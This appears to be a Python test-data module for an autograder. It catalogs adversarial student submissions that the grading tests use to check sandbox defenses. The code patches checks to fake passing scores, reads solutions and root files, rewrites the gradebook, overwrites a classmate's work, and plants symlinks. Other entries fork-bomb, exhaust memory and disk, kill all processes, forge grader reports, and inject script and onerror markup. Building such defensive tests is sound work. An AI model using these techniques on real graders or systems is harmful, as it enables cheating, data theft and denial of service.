"""The adversarial catalog (issue 4) as data: attack code a student could submit, shared by the
grading tests.

Each attack goes before a wrong `double` answer (`answer(attack)`), so that an attacker's honest
score is 0.
"""

from __future__ import annotations

from pathlib import Path

from autograde.course import REPO
from autograde.tests.conftest import RUN_MARK

WRONG_DOUBLE = "def double(x):\n    return 0\n"
WRONG_SQUARE = "def square(x):\n    return 0\n"


SECRET_MARK = "s3cr3t-root-only"  # the content of a root-only file the planted-link attacks aim at


def attacks(
    course_root: Path, classmate: Path, out: Path, secret: Path = Path("/nonexistent")
) -> dict[str, str]:
    """Attack code by name; each is put before the wrong `double` answer (its square answer is wrong
    too).

    Classes (docs/threat-model.md): patching the checks, reading secrets, writing grades or
    classmates' files, planted links / FIFOs / device files, malformed output to the grader, hangs,
    resource exhaustion, markup injection, leaking hidden test source. Why long: a table, one entry
    per attack.
    """
    hidden = course_root / "pylib" / "fx_hidden"
    return {
        "patch_numpy": (
            "import numpy as np\n"
            "np.allclose = lambda *a, **k: True\n"
            "np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)\n"
            "np.array_equal = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n"
        ),
        "patch_check_engine": (
            "import course_lib.checks.engine as E\n"
            "E.CheckResult.passed = property(lambda self: True)\n"
            "E.judge = lambda check, cases, outcomes, expected: E.CheckResult(check.name, "
            "len(cases), [])\n"
        ),
        "input_transformer": (
            "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n"
        ),
        "ast_transformer": (
            "import ast\n"
            "class Quiet(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node):\n        return ast.Pass()\n"
            "    def visit_Raise(self, node):\n        return ast.Pass()\n"
            "get_ipython().ast_transformers.append(Quiet())\n"
        ),
        "sys_modules": (
            "import sys, types\n"
            "for name in ['fx_checks', 'fx_hidden']:\n"
            "    fake = types.ModuleType(name)\n"
            "    fake.check = fake.hidden_check = lambda *a, **k: None\n"
            "    sys.modules[name] = fake\n"
        ),
        "read_secrets": (
            "import glob, os\n"
            f"targets = [{str(course_root / 'solutions')!r}, {str(classmate.parent)!r}, "
            f"{str(out)!r},\n"
            "           os.path.join(os.getcwd(), '..', '..', '..', 'source'), '/root']\n"
            "for t in targets:\n"
            "    for p in glob.glob(t + '/**/*.ipynb', recursive=True)[:5]:\n"
            "        try:\n            print(p, open(p).read()[:20000])\n"
            "        except OSError as e:\n            print('no', p, e)\n"
            "print('searched', len(targets), 'places')\n"
        ),
        "gradebook": (
            "import glob, os, sqlite3\n"
            f"dbs = glob.glob({str(out)!r} + '/**/*.db', recursive=True)\n"
            "dbs += glob.glob(os.path.join(os.getcwd(), '..', '..', '..', '*.db'))\n"
            "for db in dbs:\n"
            "    try:\n"
            "        con = sqlite3.connect(db)\n"
            "        con.execute('update grade set manual_score = 100, auto_score = 100')\n"
            '        con.execute("update grade_cells set max_score = 0")\n'
            "        con.commit()\n"
            "    except Exception as e:\n        print('no', db, e)\n"
        ),
        "background_process": (
            "import subprocess, sys\n"
            "subprocess.Popen([sys.executable, '-c', 'import os, time; os.setsid(); "
            "time.sleep(999.75)  # " + RUN_MARK + "'],\n"
            "                 start_new_session=True)\n"
        ),
        "eq_always_true": (
            "class Anything(float):\n"
            "    def __eq__(self, other):\n        return True\n"
            "    __hash__ = float.__hash__\n"
            "    def __le__(self, other):\n        return True\n"
            "    __ge__ = __lt__ = __gt__ = __le__\n"
            "    def __sub__(self, other):\n        return Anything(0)\n"
            "    __rsub__ = __sub__\n"
            "    def __abs__(self):\n        return Anything(0)\n"
            "_wrong_double = lambda x: Anything(0)\n"
        ),
        "bool_raises": (
            "class Trap:\n"
            "    def __bool__(self):\n        raise RuntimeError('gotcha')\n"
            "    __eq__ = lambda self, other: Trap()\n"
            "    __len__ = lambda self: 1\n"
            "_wrong_double = lambda x: Trap()\n"
        ),
        "fork_bomb": (
            "import os, time\n"
            "children = 0\n"
            "try:\n"
            "    for _ in range(100000):\n"
            "        if os.fork() == 0:\n"
            "            time.sleep(999.5)\n"
            "            os._exit(0)\n"
            "        children += 1\n"
            "except OSError as e:\n"
            "    print('fork stopped after', children, e)\n"
        ),
        "memory_fill": "hog = [bytearray(100 << 20) for _ in range(60)]  # 6 GB\n",
        "huge_output": "print('x' * (100 << 20))\n",
        "write_classmate": (
            "import glob\n"
            f"for p in [{str(classmate)!r}] + glob.glob({str(out)!r} + '/**/*.ipynb', "
            "recursive=True):\n"
            "    try:\n"
            "        open(p, 'w').write('{}')\n"
            "    except OSError as e:\n        print('no', p, e)\n"
        ),
        "planted_links": (
            # every place this code can write gets links, FIFOs and device files named like what a
            # grader reads
            "import glob, os\n"
            f"targets = [{str(classmate)!r}, {str(hidden / 'double.py')!r}, {str(secret)!r}, "
            "'/dev/zero']\n"
            "names = ['fx.ipynb', 'worker.json', 'state.json', 'outcomes.json', 'job.json', "
            "'gradebook.db',\n"
            "         'fx.html', 'timings.jsonl']\n"
            "for d in {os.getcwd(), os.environ.get('HOME', '/tmp'), '/tmp', '/dev/shm', "
            "os.path.dirname(os.getcwd())}:\n"
            "    for i, n in enumerate(names):\n"
            "        p = os.path.join(d, n)\n"
            "        try:\n"
            "            if os.path.lexists(p):\n                os.remove(p)\n"
            "            os.mkfifo(p) if i % 3 == 1 else os.symlink(targets[i % len(targets)], p)\n"
            "        except OSError as e:\n            print('no', p, e)\n"
        ),
        "read_hidden": (
            "import glob, os\n"
            f"for pattern in [{str(hidden)!r} + '/**/*', {str(course_root)!r} + '/**/*.json',\n"
            f"                {str(course_root / 'solutions')!r} + '/**/*', "
            "'/tmp/**/references/*.json',\n"
            f"                {str(REPO)!r} + '/autograde/**/*', {str(out)!r} + '/**/*', "
            "'/root/**/*']:\n"
            "    for p in glob.glob(pattern, recursive=True)[:40]:\n"
            "        try:\n            print(p, open(p, errors='replace').read()[:4000])\n"
            "        except OSError as e:\n            print('no', p, e)\n"
        ),
        "leak_hidden_source": (
            # a hook that prints every cell the kernel runs, base64-encoded past a plain-text leak
            # check
            "import base64\n"
            "def _leak(info):\n"
            "    print('LEAK', base64.b64encode(info.raw_cell.encode()).decode())\n"
            "get_ipython().events.register('pre_run_cell', _leak)\n"
        ),
        "forge_reports": (
            # write a well-framed, all-passing report into every descriptor this process (or its
            # parent) holds
            "import json, os\n"
            "fake = json.dumps({'double': json.dumps([{'label': 'int', 'value': 6}]), 'cells': "
            "[]}).encode()\n"
            "for pid in ['self', str(os.getppid())]:\n"
            "    for fd in range(0, 12):\n"
            "        try:\n"
            "            with open(f'/proc/{pid}/fd/{fd}', 'wb', buffering=0) as f:\n"
            "                f.write(b'%d\\n' % len(fake) + fake)\n"
            "        except OSError:\n            pass\n"
        ),
        "garbage_reports": (
            "import os\n"
            "for pid in ['self', str(os.getppid())]:\n"
            "    for fd in range(0, 12):\n"
            "        try:\n"
            "            with open(f'/proc/{pid}/fd/{fd}', 'wb', buffering=0) as f:\n"
            "                f.write(b'99999999999999\\n' + b'[' * 100000 + b'{\"dtype\": "
            '"float1024"}\')\n'
            "        except OSError:\n            pass\n"
        ),
        "endless_thread": (
            "import threading, time\n"
            "threading.Thread(target=lambda: time.sleep(10 ** 6)).start()  # not a daemon: blocks "
            "interpreter exit\n"
        ),
        "fill_tmp_and_home": (
            "import os\n"
            "for d in ['/tmp', os.environ.get('HOME', '/tmp'), '/dev/shm']:\n"
            "    try:\n"
            "        with open(os.path.join(d, 'fill'), 'wb') as f:\n"
            "            for _ in range(4096):\n                f.write(b'x' * (1 << 20))\n"
            "    except OSError as e:\n        print('stopped', d, e)\n"
        ),
        "markup": (
            "from IPython.display import HTML, Javascript, display\n"
            'print(\'<script>alert("PWN-print")</script><img src=x onerror=alert("PWN-img")>\')\n'
            'display(HTML(\'<script>alert("PWN-html")</script><img src=x '
            'onerror=alert("PWN-attr")>\'))\n'
            "display(Javascript('alert(\"PWN-js\")'))\n"
        ),
        "kill_grader": (
            "import os, signal\n"
            "for pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
            "    if pid != os.getpid():\n"
            "        try:\n            os.kill(pid, signal.SIGKILL)\n"
            "        except OSError:\n            pass\n"
        ),
    }


def answer(attack: str) -> str:
    # attacks that return a fake value define _wrong_double; the others keep `return 0`
    if "_wrong_double" in attack:
        return attack + "def double(x):\n    return _wrong_double(x)\n"
    return attack + WRONG_DOUBLE
